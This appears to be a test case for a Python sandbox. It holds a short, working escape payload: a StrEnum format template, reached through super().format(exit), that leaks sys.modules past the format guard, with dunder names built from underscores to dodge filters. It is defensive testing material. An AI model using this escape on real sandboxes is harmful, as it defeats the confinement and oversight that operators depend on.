# technique: super(E, E.T).format(exit) with E a StrEnum whose member T is a run-time __init__.__globals__[sys].modules template: the format guard looked at the receiver's type (a super object), scanned the first argument, and super() handed out T's own str.format
# configs: default, common
# With nothing allowed `import enum` is refused.
import enum
u = '_' * 2
E = enum.StrEnum('E', {'T': '{0.' + u + 'init' + u + '.' + u + 'globals' + u + '[sys].modules}'})
text = super(E, E.T).format(exit)
if "<module 'sys'" in text:
    return [{'json': {'escaped': text[:200]}}]
return [{'json': {'result': text[:200]}}]
